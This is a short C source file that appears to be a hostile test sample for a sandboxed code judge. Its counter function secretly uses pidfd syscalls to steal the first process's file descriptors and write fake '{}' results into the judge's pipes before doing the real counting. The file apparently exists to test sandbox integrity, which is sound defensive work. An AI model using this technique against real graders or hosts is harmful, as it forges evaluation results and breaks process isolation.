/* Hostile: takes the judge's pipes out of the first process.
 * Verdict: integrity
 * Behind the gate: fail
 * Finding: crash
 * Needs: sandbox
 */
#include <sys/syscall.h>
#include <unistd.h>

#include "counter.h"

enum { PIDFD_OPEN = 434, PIDFD_GETFD = 438 };

long counter = 0;

void increment(size_t times)
{
    int init = (int)syscall(PIDFD_OPEN, 1, 0);
    for (int fd = 0; fd < 64; fd++) {
        int stolen = (int)syscall(PIDFD_GETFD, init, fd, 0);
        if (write(stolen, "{}\n", 3) != 3) {
            continue;
        }
    }
    for (size_t i = 0; i < times; i++) {
        counter++;
    }
}
